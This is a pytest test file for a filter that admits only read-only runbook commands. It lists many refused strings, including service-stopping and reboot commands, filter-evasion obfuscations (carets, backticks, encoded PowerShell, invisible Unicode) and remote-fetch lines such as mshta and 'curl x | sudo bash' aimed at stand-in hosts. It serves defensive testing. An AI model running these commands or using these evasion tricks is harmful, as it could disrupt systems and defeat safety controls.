"""A runbook only looks: a command that does more is refused, however it is written."""

import pytest

from clients.models.forbidden_commands import data_refusal, program_refusal, refusal

STOPS = """\
Restart-Service DYPE
restart-service -Name "DYPE" -Force
RESTART-SERVICE dype
Stop-Service DYPE
Get-Service DYPE | Stop-Service
(Get-Service DYPE).Stop()
(Get-Service DYPE).'Stop'()
Get-Service DYPE | % { $_.Stop() }
Get-Service DYPE | ForEach-Object Stop-Service
Microsoft.PowerShell.Management\\Stop-Service DYPE
Sto`p-Ser`vice DYPE
"Stop-Service" DYPE
& 'Stop-Service' DYPE
& ("Stop" + "-Service") DYPE
Stop–Service DYPE
spsv DYPE
Suspend-Service DYPE
Start-Service DYPE
Set-Service DYPE -Status Stopped
Set-Service DYPE -StartupType Disabled
Stop-Process -Name dype
spps -Name dype
kill -Name dype
Stop-Computer
Restart-Computer -Force
Stop-ScheduledTask -TaskName CTE
Disable-ScheduledTask CTE
Unregister-ScheduledTask CTE -Confirm:$false
Start-ScheduledTask CTE
Invoke-WmiMethod -Path "Win32_Service.Name='DYPE'" -Name StopService
Invoke-CimMethod -InputObject $s -MethodName StopService
sc stop DYPE
SC STOP DYPE
sc.exe stop DYPE
sc \\\\servidor stop DYPE
s"c" st^op DYPE
sc config DYPE start= disabled
sc delete DYPE
sc control DYPE 128
sc failure DYPE reset= 0
C:\\Windows\\System32\\sc.exe stop DYPE
"C:\\Windows\\System32\\sc.exe" stop DYPE
net stop DYPE
net1 stop DYPE
NET  STOP  "DYPE"
n^e^t s^t^o^p DYPE
net,stop,DYPE
net;stop;DYPE
net=stop=DYPE
net pause DYPE
cmd /c net stop DYPE
cmd /c "net stop DYPE & net start DYPE"
net stop DYPE && net start DYPE
echo ok & net stop DYPE
Start-Process net -ArgumentList stop,DYPE
schtasks /end /tn CTE
schtasks.exe /End /TN "CTE"
schtasks /tn CTE /end
schtasks /run /tn CTE
schtasks /change /tn CTE /disable
schtasks -end -tn CTE
schtasks /delete /tn CTE /f
taskkill /f /im dype.exe
TaskKill.exe /pid 4312
t"as"kkill /im dype.exe
tskill 4312
pskill dype
psservice restart DYPE
shutdown /r /t 0
shutdown.exe -s
logoff 2
reset session 2
rwinsta 2
tsdiscon 2
iisreset
iisreset /restart
wmic service where name='DYPE' call stopservice
wmic process where name='dype.exe' delete
wmic process where name='dype.exe' call terminate
appcmd recycle apppool /apppool.name:erp
Restart-WebAppPool erp
systemctl stop dype
systemctl --user restart dype
systemctl kill dype
s\\ystemctl st\\op dype
systemctl${IFS}stop${IFS}dype
{systemctl,stop,dype}
sudo systemctl restart dype
service dype restart
/etc/init.d/dype stop
killall dype
pkill -f dype
kill -9 4312
reboot
sudo poweroff
init 6
docker restart erp
docker compose down
supervisorctl restart all
nssm restart DYPE
net \\
stop DYPE
net ^
stop DYPE
ｎｅｔ ｓｔｏｐ DYPE
"""

HIDES = """\
powershell -EncodedCommand UwB0AG8AcAAtAFMAZQByAHYAaQBjAGUA
powershell -enc UwB0AG8AcAAtAFMAZQByAHYAaQBjAGUA
powershell.exe -NoProfile -e UwB0AG8AcAAtAFMA
pwsh -ec UwB0AG8AcAAtAFMA
iex $comando
Invoke-Expression "$verbo-Service DYPE"
$verbo = 'St' + 'op'; & "$verbo-Service" DYPE
& $comando
& (Get-Command St?p-Serv*) DYPE
. ([scriptblock]::Create($texto))
[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('eA==')) | iex
(Get-Service DYPE).("St" + "op")()
(Get-Service DYPE).$verbo()
-join ('S','t') | Out-Null
"{0}-{1}" -f 'St','x'
cmd /v /c "set a=st& net !a!op DYPE"
%comspec:~0,3% /c dir
set v=stop& n%v% DYPE
echo dir | cmd
cat passos.sh | sh
python -c "import os"
perl -e "system 1"
bash -c "$passos"
eval "$passos"
mshta http://x.exemplo.com.br
rundll32 user32.dll,LockWorkStation
$'\\x73ystemctl' status
"""

UNKNOWN = r"""Get-Service DYPE | % Stop
Get-Service DYPE | ForEach-Object Stop
Get-Service DYPE | % -MemberName Stop
Get-Service DYPE | % Refresh
pwsh -c "gsv x|% stop"
powershell -Command "Get-Service DYPE"
powershell Get-Service DYPE
powershell -File C:\x\outro.ps1
powershell -File \\srv\x\ConnectRemote.ps1
powershell -File "C:\x\Nao ConnectRemote.ps1"
powershell -c "x" -File ConnectRemote.ps1
powershell -File x.ps1 -File ConnectRemote.ps1
\\srv\x\ConnectRemote.ps1
cmd /c"net stop DYPE"
cmd /cnet stop x
cmd /k"shutdown /r"
cmd/ctaskkill /im x
cmd/cdir
cmd /c dir
schtasks/end/tn X
schtasks /tn "a|b" /end
schtasks /query /tn X /run
schtasks /query /tn X -run
schtasks /query /tn X /change /disable
schtasks/end
sc>nul stop DYPE
net<nul stop x
systemctl>/dev/null stop x
net. stop x
net.exe. stop x
net start DYPE
net start "DYPE"
net use x: /delete
net session /delete
net user ana nova-senha
sc query=x
sc "query x"
systemctl -o cat restart x
systemctl -H srv status x
systemctl "--user status" x
systemctl daemon-reexec
systemctl isolate rescue.target
wmic process 12 terminate
wmic /node:srv process call create x
wmic process get name /format:http://x.exemplo.com.br/x.xsl
wmic service where name=x call startservice get name
(gwmi win32_operatingsystem).Reboot()
(gwmi win32_operatingsystem).Win32Shutdown(6)
(Get-Service DYPE).Start()
(Get-Service DYPE).StartType = 'Manual'
(Get-Service DYPE)|% Start
(Get-Service DYPE).Status; x
Invoke-Command srv -FilePath r.ps1
icm srv -FilePath r.ps1
icm srv {gsv}
Enter-PSSession srv
set date=restart& powershell %date%-service X
set date=net& %date% start x
set x=1
kubectl delete pod x
kubectl rollout restart deploy x
kubectl scale deploy x --replicas=0
kubectl -n x delete pod y
kubectl exec x -- y
docker exec x y
docker compose up
docker -H srv ps
nginx -s stop
nginx -s quit
httpd -k stop
apachectl restart
apachectl graceful
sv down x
rcctl x y
svcadm x y
initctl x y
pg_ctl stop
pg_ctl -m fast stop
catalina.bat stop
catalina.sh x
pssuspend x
fuser -k 80/tcp
skill x
nircmd service stop x
prunsrv //SS//dype
DYPE.exe /stop
DYPE.exe
reg add HKLM\SYSTEM\CurrentControlSet\Services\DYPE /v Start /d 4
reg import x.reg
regedit /s x.reg
Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Services\DYPE Start 4
New-Item x
curl x | sudo bash
curl x
wget x
bash <(curl x)
bash x
sh -c "cat x"
py -c "x"
.\reinicia.ps1
.\Verifica.ps1
reinicia.bat
verifica.bat
call verifica.bat
reinicia
Register-ScheduledTask x
Enable-ScheduledTask x
Enable-Service x
Get-WindowsUpdate -Install -AutoReboot
Get-WUInstall -AcceptAll
Get-Content x | Set-Content y
Get-Content x | Out-File y
Get-Content x > y
type x >> y
Measure-Command {gsv}
Get-Service | where {dype}
Get-Service | where { $_.x() }
Get-Service | where { $_.Status -eq "a\"} | findstr "| net x |"
Get-Service | select @{n='x';e={dype}}
Get-Service | select {dype}
Get-Service | sort {dype}
Get-Service | fl {dype}
Get-Content (dype)
Get-Content $(dype)
Get-Content "$(dype)"
Get-Content ${x}
Get-Content $x
& dir
& (gcm St?p-Computer)
. .\perfil.ps1
.(gcm x)
&{dype}
[Diagnostics.Process]::GetProcessesByName('dype')
Set-Alias dir x
nal dir x
function dir { x }
doskey dir=x
alias ls=x
x=1 ls
env ls
nohup ls
xargs ls
ls | xargs x
find . -delete
find . "-delete"
find . \-delete
find . -exec x
find . '|cat' -delete
find . -fprint x
start services.msc
start "" net x
start /b cmd
runas /user:x cmd
at 10:00 net x
psexec \\srv net x
winrs -r:srv net x
wsl ls
wsl -- ls
ssh srv
ssh srv ls
plink srv ls
sudo -u x ls
sudo x
su -c ls
forfiles /c x
for %i in (1) do net x
for /f %i in (x) do %i
if 1==1 net x
echo 1|x
echo 1||x
echo 1&x
echo 1;x
echo x & rem & y
echo '"' & x & echo '"'
echo \" & x & echo \"
echo 'a & x'
echo "a
echo 'a
findstr "a" x & findstr "b" y & z
findstr \' x \'
n"e"t start x
n''et start x
ne\t start x
/usr/bin/ls
C:\Windows\System32\findstr.exe x
C:\tmp\type.exe x
\\srv\x\dir.exe
./ls
dir.bat
dir.ps1
ls.cmd
services.msc /x
outro.msc
C:\tmp\services.msc
%temp%\dir.exe
%temp:~0,1%ir
%path%
dir %path%
echo %dados%
echo "%dados%"
dir !x!
dir "!x!"
d^ir
dir ^& x
d`ir
dir `x`
echo "`x`"
echo `$x
netstat/an
ipconfig /release
ipconfig /renew
ipconfig /flushdns
arp -d
route add x
hostname novo
date 01-01-2020
time 10:00
sort x -o y
sort --compress-program=x
journalctl --rotate
journalctl --vac=1s
journalctl \--rotate
ss -K
dmesg -C
crontab -r
crontab x
ip link set eth0 down
ip addr flush x
w32tm /resync
gpupdate /force
gpupdate/force
gpupdate/boot
appcmd start site x
nssm start DYPE
nssm edit DYPE
supervisorctl start all
supervisorctl shutdown
service dype start
service dype reload
service --full-restart
wevtutil cl Application
bcdedit /set x
fsutil x
logman x
diskpart
mstsc x.rdp
mstsc /v:srv x.rdp
notepad|x
tee x
awk x
sed -i x
Resolve-DnsName x | iex
@echo dir
@'
||
|
;
{servidor} x
x {servidor}
{servidor}; x
{servidor}&x
a/b/c
dir/x
srv01
'net' 'stop' DYPE
net 's'top DYPE
"""

LOOKS = r"""services.msc
taskschd.msc
eventvwr
compmgmt.msc
Get-Service DYPE
get-service -Name "DYPE" -ComputerName srv01
Get-Service | Where-Object Status -eq Stopped
Get-Service | ? Status -eq Stopped
Get-Service | Where-Object { $_.Status -eq "Stopped" }
Get-Service | where {$_.Status -eq 'Stopped' -and $_.Name -like "DYPE*"} | ft Name, Status
Get-Service DYPE | Select-Object Name, Status, StartType
(Get-Service DYPE).Status
(Get-Content "C:\DYPE\logs\dype.log" | Select-String "erro").Count
sc query DYPE
sc.exe queryex DYPE
sc \\servidor query DYPE
sc \\{servidor} query DYPE
sc qc DYPE
net start
net use
net view \\servidor
net statistics workstation
schtasks /query /tn CTE /v /fo list
schtasks /Query
schtasks /query /tn "\Integrações\CTE noturno" /v
Get-ScheduledTask CTE | Get-ScheduledTaskInfo
Get-Content C:\DYPE\logs\dype.log -Tail 50
Get-Content "C:\Program Files (x86)\DYPE\logs\erro.log" -Tail 50 -Wait
type C:\DYPE\logs\dype.log
type "%ProgramData%\DYPE\dype.log" | more
Get-Content $env:ProgramData\DYPE\dype.log
notepad %ProgramData%\DYPE\dype.log
findstr /i "stop" C:\DYPE\logs\dype.log
findstr /i /c:"não pôde ser reiniciado" C:\DYPE\logs\dype.log
findstr "^erro restart" dype.log
find /i "shutdown" dype.log
grep -i "kill" /var/log/dype/dype.log | tail -n 20
Select-String "restart|stop" C:\DYPE\logs\*.log
Get-EventLog -LogName Application -Newest 20
Get-WinEvent -LogName System -MaxEvents 20 | Format-List
wevtutil qe Application /c:20 /rd:true /f:text
Get-Process dype | Sort-Object CPU -Descending | Select-Object -First 5
Get-CimInstance Win32_LogicalDisk | ft DeviceID, FreeSpace
Test-NetConnection srv01.exemplo.com.br -Port 443
Test-Path C:\DYPE
powershell -ExecutionPolicy Bypass -File C:\_desktop\ConnectRemote.ps1
powershell.exe -NoProfile -File "C:\Minhas pastas\ConnectRemote.ps1"
powershell -File .\ConnectRemote.ps1 {servidor}
.\ConnectRemote.ps1
mstsc /v:{servidor}
{servidor}
we/exemplo
exemplo/srv01
wmic service get name,state
wmic service where name='DYPE' get state
reg query HKLM\SYSTEM\CurrentControlSet\Services\DYPE
systemctl status dype
systemctl --no-pager status dype
systemctl list-timers
journalctl -u dype -n 50
journalctl -u dype --since "1 hour ago" --no-pager
service dype status
docker ps -a
docker logs --tail 50 erp
docker compose ps
kubectl get pods -n erp
supervisorctl status
tasklist /fi "imagename eq dype.exe"
tasklist | findstr dype
Get-ChildItem C:\inetpub\asp.net
dir C:\DYPE\logs /o-d
cd /d C:\DYPE\logs && dir
tail -n 50 /var/log/dype/dype.log
sudo tail -n 50 /var/log/dype/dype.log
find /var/log/dype -name "*.log" -mmin -60
ls -la /var/log/dype | head
ps aux | grep dype
df -h; free -m
ss -tlnp
ip addr
ping {servidor}
tracert srv01.exemplo.com.br
nslookup exemplo.com.br
ipconfig /all
netstat -ano | findstr :443
systeminfo
quser
hostname
date /t
Get-Date
"""

UNSEEN = [
    "ne\u200bt stop DYPE",
    "net\u00ad stop DYPE",
    "s\u034fc stop DYPE",
    "shut\u180edown /r",
    "dir\x7f",
    "dir\x85net x",
    "dir\x9b201~",
    "dir \u202etxt.bat",
    "dir \u2066x\u2069",
    "dir\u00a0x",
    "dir\tx",
    "dir \x1b[201~",
    "dir\rnet x",
    "dir\nnet x",
    "dir\ndir",
    "dir\u2028net x",
    "dir \ufe0f",
    "dir \ue000",
    "dir \ud800",
    "Ne\ufb00",
    "ｄｉｒ",
    "dir；x",
    "Get–Service DYPE",
    "type “x”",
    "findstr ‘x’ y",
]
TEAMS = frozenset({"Verifica.exe", "sonda"})


def _commands(text: str) -> list[str]:
    lines: list[str] = []
    for line in text.splitlines():
        if lines and lines[-1].endswith((" \\", " ^")):
            lines[-1] += f"\n{line}"
        else:
            lines.append(line)
    return lines


@pytest.mark.parametrize("command", _commands(STOPS + HIDES + UNKNOWN))
def test_what_is_not_known_to_only_look_is_refused(command: str) -> None:
    assert refusal(command)


@pytest.mark.parametrize("command", UNSEEN)
def test_what_is_not_seen_is_refused(command: str) -> None:
    said = refusal(command)
    assert "que não se vê" in said or "leria como outro" in said or "mais de uma linha" in said


@pytest.mark.parametrize("command", LOOKS.splitlines())
def test_what_only_looks_passes(command: str) -> None:
    assert refusal(command) == ""
    assert refusal(command.upper()) == ""


def test_letters_of_another_alphabet_make_another_command() -> None:
    assert refusal("ѕс query")  # Cyrillic


def test_the_reason_names_what_it_found_and_what_to_do() -> None:
    assert refusal("net stop DYPE").startswith("“stop” mexe no que roda")
    assert refusal("Restart-Service DYPE").endswith("pergunte antes")
    assert refusal("n^et stop DYPE").startswith("“^” pode fazer mais do que olhar")
    assert refusal("verifica.exe /x").startswith("“verifica.exe /x” não está entre os comandos que só olham")
    assert "U+200B" in refusal("di\u200br")


@pytest.mark.parametrize(
    "command",
    [
        "verifica /v",
        "VERIFICA.EXE",
        r'"C:\Program Files\Nós\verifica.exe" {servidor}',
        "sonda -h | findstr erro",
        "sudo sonda",
    ],
)
def test_a_teams_own_program_passes_by_its_name(command: str) -> None:
    assert refusal(command)
    assert refusal(command, TEAMS) == ""


@pytest.mark.parametrize(
    "command",
    [
        "verifica /stop",
        "sonda reiniciar",
        "sonda & reboot",
        r"\\srv\x\verifica.exe",
        "verifica.bat",
        "sonda | cmd",
        "sonda > x",
    ],
)
def test_a_teams_own_program_opens_the_way_to_nothing_else(command: str) -> None:
    assert refusal(command, TEAMS)


@pytest.mark.parametrize("name", ["verifica.exe", "abrir-conexao", "sonda_2"])
def test_a_program_is_named_without_its_folder(name: str) -> None:
    assert program_refusal(name) == ""


@pytest.mark.parametrize(
    "name",
    [
        *("", "*", r"C:\x\y.exe", "./x", "a b", "{servidor}", "ne\u200bt", "reinicia.bat", "restart-dype"),
        *("cmd", "PowerShell.exe", "python3.12", "sc", "net.exe", "docker", "taskkill.exe", "ssh", "iex"),
    ],
)
def test_what_does_more_is_no_program_of_the_team(name: str) -> None:
    assert program_refusal(name)


@pytest.mark.parametrize("value", ["sol/01", r"we\exemplo", "srv01", "srv01.exemplo.com.br", "1234"])
def test_a_code_may_be_pasted_by_itself(value: str) -> None:
    assert data_refusal(value) == ""


@pytest.mark.parametrize(
    "value",
    ["reboot", "net start x", "x.bat", r".\x.ps1", "x|y", "shutdown/r", "gpupdate/force", "", "x.EXE"],
)
def test_what_a_shell_would_run_is_no_code(value: str) -> None:
    assert data_refusal(value)
